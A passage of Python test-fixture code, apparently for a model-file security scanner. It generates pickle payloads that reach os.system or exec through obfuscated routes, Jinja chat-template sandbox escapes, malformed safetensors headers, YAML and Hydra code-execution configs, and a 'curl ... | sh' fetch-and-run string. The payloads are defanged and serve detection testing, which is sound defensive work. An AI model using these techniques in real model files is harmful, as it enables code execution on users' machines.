    yield "partial_of_partial", Apply(Call("functools", "partial", Call("functools", "partial", Name("posix", "system")), "true"))
    yield "map_list", Call("builtins", "list", Call("builtins", "map", Name("os", "system"), ["true"]))
    yield "map_deque", Call("collections", "deque", Call("builtins", "map", Name("builtins", "eval"), ["None"]))
    yield "reduce_tool", Call("functools", "reduce", Name("builtins", "getattr"), ["system"], Name("posixpath", "os"))
    yield "subclasses", Apply(getattr_of(Apply(getattr_of(Name("builtins", "object"), "__subclasses__")), "__getitem__"), 100)
    yield "mro", getattr_of(getattr_of(Code(lambda p: value((), p)), "__class__"), "__base__")
    yield "init_globals", getattr_of(getattr_of(Name("collections", "OrderedDict"), "__init__"), "__globals__")
    yield "function_globals", getattr_of(Name("collections", "namedtuple"), "__globals__")
    yield "ordered_dotted", Name("collections", "OrderedDict.__init__.__globals__", "stack")
    yield "rot13", b"\x80\x04" + text4("os") + Call("codecs", "decode", "flfgrz", "rot13").of(4) + b"\x93" + text4("true") + b"\x85R."
    yield "encode_name", b"\x80\x04" + text4("os") + Call("_codecs", "encode", "flfgrz", "rot13").of(4) + b"\x93" + text4("true") + b"\x85R."
    yield "str_of_bytes", b"\x80\x04" + Call("builtins", "str", b"os", "ascii").of(4) + text4("system") + b"\x93" + text4("true") + b"\x85R."
    yield "joined_name", b"\x80\x04" + text4("os") + joined("sys", "tem").of(4) + b"\x93" + text4("true") + b"\x85R."
    yield "added_name", b"\x80\x04" + text4("os") + Call("operator", "add", "sys", "tem").of(4) + b"\x93" + text4("true") + b"\x85R."
    yield "chr_name", b"\x80\x04" + Call("builtins", "chr", 111).of(4) + text4("system") + b"\x93" + text4("true") + b"\x85R."
    yield "getattr_computed", Apply(getattr_of(Name("posixpath", "os"), joined("sys", "tem")), "true")
    yield "base64_exec", Call("builtins", "exec", Call("base64", "b64decode", "cGFzcw=="))
    yield "zlib_exec", Call("builtins", "exec", Call("zlib", "decompress", b"x\x9c+H,.\x06\x00\x04\x86\x01\xb1"))
    yield "marshal_function", Apply(Call("types", "FunctionType", Call("marshal", "loads", b"c"), {}))
    yield "cloudpickle_call", Apply(Call("cloudpickle.cloudpickle", "_make_function", Call("types", "CodeType", 0), {}))
    yield "dill_call", Apply(Call("dill._dill", "_create_function", Call("dill._dill", "_create_code", 0), {}))
    yield "type_new", Apply(Call("builtins", "type", "X", (Name("builtins", "object"),), {"__init__": Name("os", "system")}))
    yield "type_getattr", Apply(Call("builtins", "type", "X", (), {"__reduce__": Name("builtins", "exec")}))
    yield "defaultdict_factory", getattr_of(Call("collections", "defaultdict", Name("os", "getcwd")), "__missing__")
    yield "dict_factory_called", Apply(getattr_of(Call("collections", "defaultdict", Name("os", "abort")), "__missing__"), "x")
    yield "copyreg_reconstructor", Call("copyreg", "_reconstructor", Name("subprocess", "Popen"), Name("builtins", "object"), None)
    yield "newobj", b"\x80\x02" + Name("subprocess", "Popen").of(2) + b"X\x04\x00\x00\x00true\x85\x81."
    yield "newobj_ex", b"\x80\x04" + Name("subprocess", "Popen").of(4) + b")}\x92."
    yield "build_setstate", b"\x80\x02cbuiltins\nobject\n}X\x0c\x00\x00\x00__setstate__cos\nsystem\nsbX\x04\x00\x00\x00trueb."
    yield "build_on_class", b"\x80\x02ccollections\nOrderedDict\n}X\x0c\x00\x00\x00__setstate__cbuiltins\nlen\nsb."
    yield "build_on_module", b"\x80\x02clogging\nroot\n}X\x08\x00\x00\x00handlers]sb."
    yield "instance_dict_call", b"\x80\x02cargparse\nNamespace\n)\x81}X\x01\x00\x00\x00acos\nsystem\nsb."
    yield "setitem_class", b"\x80\x02cbuiltins\n__dict__\nX\x03\x00\x00\x00lencos\nsystem\ns."
    for code, opcode in ((b"\x82\x05", 1), (b"\x83\x05\x01", 2), (b"\x84\x05\x00\x01\x00", 4)):
        yield f"ext{opcode}", b"\x80\x02" + code + b"X\x04\x00\x00\x00true\x85R."
    yield "registered_ext", b"\x80\x02ccopyreg\nadd_extension\n(X\x02\x00\x00\x00osX\x06\x00\x00\x00systemK\x05tR0\x82\x05X\x04\x00\x00\x00true\x85R."
    yield "unknown_called_with_code", Call("somebody.tools", "helper", "__import__('os').system('true')")
    yield "unknown_run", Call("somebody.tools", "run_command", "true")
    yield "unknown_discarded", b"\x80\x02" + Call("somebody.tools", "helper", 1).of(2) + b"0}."
    yield "sklearn_code", Call("sklearn.utils.something", "helper", "import os; os.system('true')")
    yield "class_with_code", Call("torch.nn.Anything", "Thing", "__import__('os').system('true')")
    yield "instance_called", Apply(Call("sklearn.pipeline", "Pipeline", []), "true")
    yield "numpy_dtype_object", Call("numpy", "dtype", Call("builtins", "eval", "None"))
    yield "bound_method", Apply(getattr_of(Code(lambda p: value("{0.__class__}", p)), "format"), 1)
    yield "str_format_map", Apply(Name("builtins", "str.format"), "{0.__class__.__mro__}", 1)
    yield "reverse_iter", Call("builtins", "reversed", Call("os", "listdir", "/nonexistent"))
    yield "compile_eval", Call("builtins", "eval", Call("builtins", "compile", "None", "x", "eval"))
    yield "lambda_dill", Apply(Call("dill._dill", "_load_type", "FunctionType"), None)
    yield "operator_call", Apply(Name("operator", "call"), Name("os", "getcwd"))
    yield "starmap", Call("builtins", "list", Call("itertools", "starmap", Name("os", "system"), [("true",)]))
    yield "filter_any", Call("builtins", "any", Call("builtins", "filter", Name("os", "system"), ["true"]))
    yield "pathlib_read", Apply(getattr_of(Call("pathlib", "PosixPath", "/nonexistent"), "read_text"))
    yield "pandas_query", Apply(getattr_of(Call("pandas.core.frame", "DataFrame"), "query"), "@__import__('os')")
    yield "torch_bound", Apply(getattr_of(Name("torch", "serialization"), "load"), "x")
    yield "persistent_id_text", b"Pcos\n." + stream(Call("os", "system", "true"), 0)


def second_chains():
    os_ = Name("os", "system")
    yield "vars_module", Apply(Call("operator", "itemgetter", "eval"), Call("builtins", "vars", Name("builtins", "object")))
    yield "getattr_static", Apply(Call("inspect", "getattr_static", Name("posixpath", "os"), "system"), "true")
    yield "codecs_lookup", getattr_of(Call("codecs", "lookup", "rot13"), "decode")
    yield "import_dotted", Apply(Name("importlib", "import_module.__globals__"), "x")
    yield "json_codecs", Apply(Name("json", "codecs.open"), "/nonexistent/x")
    yield "random_os", Apply(Name("random", "_os.system"), "true")
    yield "tempfile_os", Apply(Name("glob", "os.system"), "true")
    yield "numpy_sys", Apply(getattr_of(Name("numpy", "sys"), "exit"))
    yield "pandas_compat_os", Apply(Name("pandas.io.common", "os.system"), "true")
    yield "torch_os", Apply(Name("torch", "os.system"), "true")
    yield "torch_sys_modules", Apply(getattr_of(Name("torch", "sys.modules"), "get"), "os")
    yield "sklearn_subprocess", Apply(Name("sklearn.utils.fixes", "platform.popen"), "true")
    yield "joblib_subprocess", Apply(Name("joblib.externals.loky.backend.context", "subprocess.check_output"), ["true"])
    yield "uuid_os", Apply(Name("uuid", "os.popen"), "true")
    yield "warnings_sys", Name("warnings", "sys.modules")
    yield "class_getattribute", Apply(Name("builtins", "object.__getattribute__"), Name("posixpath", "os"), "system")
    yield "type_call", Apply(Name("builtins", "type.__call__"), Name("builtins", "object"))
    yield "dict_get", Apply(Name("builtins", "dict.get"), Name("builtins", "__dict__"), "eval")
    yield "dict_getitem", Apply(Name("builtins", "dict.__getitem__"), Name("sys", "modules"), "os")
    yield "str_join_name", b"\x80\x04" + Apply(Name("builtins", "str.join"), "", ["o", "s"]).of(4) + text4("system") + b"\x93" + text4("true") + b"\x85R."
    yield "bytes_decode_name", b"\x80\x04" + Apply(Name("builtins", "bytes.decode"), b"os").of(4) + text4("system") + b"\x93" + text4("true") + b"\x85R."
    yield "bytes_fromhex", b"\x80\x04" + Apply(Name("builtins", "bytes.fromhex"), "6f73").of(4) + text4("system") + b"\x93."
    yield "binascii_name", b"\x80\x04" + text4("os") + Call("binascii", "unhexlify", "73797374656d").of(4) + b"\x93."
    yield "template_name", b"\x80\x04" + text4("os") + Apply(Name("string", "Template.substitute"), None).of(4) + b"\x93."
    yield "list_item_name", b"\x80\x04](" + text4("system") + b"e0" + text4("os") + Apply(Name("builtins", "list.pop"), ["system"]).of(4) + b"\x93."
    yield "persistent_name", b"\x80\x04" + text4("os") + b"Psystem\n\x93" + text4("true") + b"\x85R."
    yield "partial_setstate", b"\x80\x02cfunctools\npartial\n" + b"cbuiltins\nlen\n\x85R(cos\nsystem\n)}}tbX\x04\x00\x00\x00true\x85R."
    yield "partial_setstate_unknown", b"\x80\x02cfunctools\npartial\ncbuiltins\nlen\n\x85R(csomebody\nthing\n)}}tb)R."
    yield "exception_args", Apply(getattr_of(Call("builtins", "Exception", os_), "args"))
    yield "property_get", Apply(getattr_of(Call("builtins", "property", os_), "fget"), "true")
    yield "staticmethod_func", Apply(getattr_of(Call("builtins", "staticmethod", os_), "__func__"), "true")
    yield "lru_cache_wrap", Apply(Apply(Call("functools", "lru_cache", 1), os_), "true")
    yield "cached_callable", Apply(Call("functools", "singledispatch", os_), "true")
    yield "weakref_finalize", Call("weakref", "finalize", Name("builtins", "object"), os_, "true")
    yield "ctx_run", Apply(getattr_of(Call("contextvars", "copy_context"), "run"), os_, "true")
    yield "iter_sentinel", Call("builtins", "list", Call("builtins", "iter", Name("os", "getcwd"), "x"))
    yield "max_key", Apply(Call("functools", "partial", Name("builtins", "max")), ["true"], os_)
    yield "groupby", Call("builtins", "list", Call("itertools", "groupby", ["true"], os_))
    yield "accumulate", Call("builtins", "list", Call("itertools", "accumulate", ["true", "true"], os_))
    yield "takewhile", Call("builtins", "list", Call("itertools", "takewhile", os_, ["true"]))
    yield "counter_elements", Apply(Name("collections", "Counter.elements"), Call("collections", "defaultdict", os_))
    yield "thread_start", Apply(getattr_of(Call("threading", "Thread", None, os_, None, ("true",)), "start"))
    yield "timer_thread", Call("threading", "Timer", 0, os_, ("true",))
    yield "pool_apply", Apply(getattr_of(Call("multiprocessing.dummy", "Pool", 1), "map"), os_, ["true"])
    yield "atexit_exec", Call("atexit", "register", Name("builtins", "exec"), "pass")
    yield "numpy_vectorize", Apply(Call("numpy", "vectorize", os_), ["true"])
    yield "numpy_fromiter", Call("numpy", "fromiter", Call("builtins", "map", os_, ["true"]), "i4")
    yield "pandas_apply", Apply(getattr_of(Call("pandas", "Series", ["true"]), "apply"), os_)
    yield "function_transformer", Apply(getattr_of(Call("sklearn.preprocessing._function_transformer", "FunctionTransformer", os_), "fit_transform"), ["true"])
    yield "vectorizer_analyzer", Apply(getattr_of(Call("sklearn.feature_extraction.text", "CountVectorizer"), "fit"), ["true"])
    yield "tensor_apply", Apply(Name("torch", "Tensor.apply_"), None, Name("builtins", "eval"))
    yield "functional_call", Apply(Name("torch.nn.modules.module", "Module.__call__"), None)
    yield "vmap", Apply(Call("torch.func", "vmap", os_), "true")
    yield "cloudpickle_skeleton", Apply(Call("cloudpickle.cloudpickle", "_make_skeleton_class", Name("builtins", "type"), "X", (), {}, None, None))
    yield "cloudpickle_builtin", Apply(Call("cloudpickle.cloudpickle", "_builtin_type", "CodeType"), 0)
    yield "cloudpickle_subimport", getattr_of(Call("cloudpickle.cloudpickle", "subimport", "os"), "system")
    yield "cloudpickle_fill", Call("cloudpickle.cloudpickle", "_fill_function", None)
    yield "dill_getattr", Apply(Call("dill._dill", "_getattribute", Name("posixpath", "os"), "system"), "true")
    yield "dill_get_attr", Apply(Call("dill._dill", "_get_attr", Name("posixpath", "os"), "system"), "true")
    yield "ext_named", b"\x80\x04ccopyreg\n_extension_registry\n(" + text4("os") + text4("system") + b"t\x85K\x05s\x82\x05."
    yield "inverted_registry", b"\x80\x02ccopyreg\n_inverted_registry\nK\x05(X\x02\x00\x00\x00osX\x06\x00\x00\x00systemts\x82\x05X\x04\x00\x00\x00true\x85R."
    yield "dispatch_table", b"\x80\x02ccopyreg\ndispatch_table\ncbuiltins\nint\ncos\nsystem\ns."
    yield "append_to_sys_path", b"\x80\x02csys\npath\nX\x01\x00\x00\x00.a."
    yield "append_to_list_global", b"\x80\x02csite\nENABLE_USER_SITE\n]a."
    yield "build_namespace_call", b"\x80\x02ctypes\nSimpleNamespace\n)R}X\x08\x00\x00\x00__call__csomebody\nthing\nsb)R."
    yield "build_class_attribute", b"\x80\x02csklearn.base\nBaseEstimator\n}X\x07\x00\x00\x00predictcsomebody\nthing\nsb."
    yield "build_function_code", b"\x80\x02ccollections\nnamedtuple\n}X\x08\x00\x00\x00__code__Nsb."
    yield "slot_state", b"\x80\x02cbuiltins\ntype\nN}X\x04\x00\x00\x00namecos\nsystem\ns\x86b."
    yield "main_module", b"\x80\x02c__main__\n__builtins__\n."
    yield "main_loader", Name("__main__", "__loader__")
    yield "unknown_url", Call("somebody.tools", "helper", "http://127.0.0.1:9/x.sh")
    yield "unknown_shell", Call("somebody.tools", "helper", "curl http://127.0.0.1:9/ | sh")
    yield "unknown_download", Call("somebody", "download_and_start", 1)
    yield "unknown_class_exec", Call("somebody", "CommandRunner", "true")
    yield "unknown_lambda_code", Call("somebody", "thing", "lambda: exec('pass')")
    yield "unknown_under_stop", b"\x80\x02" + Call("somebody.tools", "helper", 1).of(2) + b"}."
    yield "library_code_text", Call("xgboost.something", "helper", "exec(open('x').read())")
    yield "two_step_memo", b"\x80\x02cbuiltins\ngetattr\nq\x00cposixpath\nos\nq\x01X\x06\x00\x00\x00systemq\x020h\x00h\x01h\x02\x86RX\x04\x00\x00\x00true\x85R."


PLAIN_ESCAPES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('true').read() }}", "{{ self.__init__.__globals__ }}",
    "{% for m in messages %}{{ m['content'] }}{% endfor %}{{ lipsum.__globals__['os'].popen('true') }}", "{{ ''['__class__'] }}", "{{ ''|attr('__class__') }}",
    "{{ ''|attr('__cla' ~ 'ss__') }}", "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "{% set x = '__class__' %}{{ ''[x] }}", "{{ request.application.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}", "{{ joiner.__init__.__globals__.__builtins__ }}", "{% set c = messages.__class__ %}{{ c }}", "{{ messages.__getattribute__('x') }}",
    "{{ raise_exception.__globals__ }}", "{{ ''.format.__self__ }}", "{{ '{0.__class__}'.format(messages) }}", "{{ '%c%c'|format(95, 95) }}{{ ''|attr(x) }}",
]
SECOND_ESCAPES = [
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}", "{{ tojson.__init__ }}", "{{ ()|attr('__class__')|attr('__base__') }}", "{% set a = '_' * 2 %}{{ ''[a ~ 'class' ~ a] }}",
    "{{ ''[['__cl','ass__']|join] }}", "{{ messages|map(attribute='__class__')|list }}", "{{ ''['\\u005f\\u005fclass__'] }}", "{% set g = strftime_now.__globals__ %}{{ g }}", "{{ (messages[0])['__in' + 'it__'] }}",
    "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}{{ m() }}", "{% if ''.__class__ %}x{% endif %}", "{{ messages|sort(attribute='__class__.__name__') }}", "{{ dict.mro() }}", "{{ get_flashed_messages.__globals__ }}",
    "{{ url_for.__globals__['current_app'] }}", "{{ [].__doc__.__class__ }}", "{{ ''['__CLASS__'|lower] }}", "{{ ''['__ssalc__'[::-1]] }}", "{{ messages|selectattr('__class__')|list }}", "{{ lipsum|attr(('_'*2,'globals','_'*2)|join) }}",
]


def gguf(template):
    def text(b):
        return struct.pack("<Q", len(b)) + b
    data = b"GGUF" + struct.pack("<IQQ", 3, 0, 2)
    data += text(b"general.architecture") + struct.pack("<I", 8) + text(b"llama")
    data += text(b"tokenizer.chat_template") + struct.pack("<I", 8) + text(template.encode())
    return data + bytes(-len(data) % 32)


def safetensors(header, data=b"", length=None):
    header = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(header) if length is None else length) + header + data


def entry(start, end, shape=(1,), dtype="F32"):
    return {"dtype": dtype, "shape": list(shape), "data_offsets": [start, end]}


def texts(which):
    """(name, bytes, label): files that are no pickles. `surfaced` means that any finding will do."""
    for number, template in enumerate(PLAIN_ESCAPES if which == "first" else SECOND_ESCAPES):
        yield f"{number:02}.gguf", gguf(template), "malicious"
        yield f"{number:02}/tokenizer_config.json", json.dumps({"chat_template": template}).encode(), "malicious"
        yield f"{number:02}/chat_template.jinja", template.encode(), "malicious"
    if which == "first":
        one = entry(0, 4)
        bad = {
            "overlap": safetensors({"a": entry(0, 4), "b": entry(2, 6)}, bytes(6)), "hole": safetensors({"a": entry(0, 4), "b": entry(8, 12)}, bytes(12)),
            "beyond": safetensors({"a": entry(0, 400, (100,))}, bytes(4)), "size": safetensors({"a": entry(0, 4, (3,))}, bytes(4)),
            "reversed": safetensors({"a": entry(4, 0)}, bytes(4)), "duplicate": safetensors(b'{"a":' + json.dumps(one).encode() + b',"a":' + json.dumps(one).encode() + b"}", bytes(4)),
            "negative": safetensors({"a": entry(-4, 0)}, bytes(4)), "dtype": safetensors({"a": entry(0, 4, (1,), "X9")}, bytes(4)), "tail": safetensors({"a": one}, bytes(9)),
            "overflow": safetensors({"a": entry(0, 4, (1 << 62, 1 << 62))}, bytes(4)), "huge_header": safetensors({"a": one}, bytes(4), 1 << 62), "metadata": safetensors({"__metadata__": {"a": 1}, "a": one}, bytes(4)),
            "not_json": safetensors(b"{not json at all}", bytes(4)),
        }
        for name, data in bad.items():
            yield f"{name}.safetensors", data, "surfaced"
        yield "python_tag.yaml", b"a: !!python/object/apply:os.system [true]\n", "malicious"
        yield "python_tag_long.yaml", b"a: !<tag:yaml.org,2002:python/object/apply:subprocess.Popen> [[true]]\n", "malicious"
        yield "target.yaml", b"model:\n  _target_: os.system\n  command: 'true'\n", "malicious"
        yield "target/config.json", b'{"model": {"_target_": "builtins.exec", "_args_": ["pass"]}}', "malicious"
        yield "auto_map/config.json", b'{"auto_map": {"AutoModel": "somebody/else--modeling.Model"}}', "surfaced"
    else:
        yield "python_new.yaml", b"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [true]\n", "malicious"
        yield "python_name.yml", b"a: !!python/name:os.system\n", "malicious"
        yield "target2.yaml", b"_target_: subprocess.Popen\nargs: ['true']\n", "malicious"
        yield "target3/model.yaml", b'{"_target_": "importlib.import_module", "name": "this"}', "malicious"
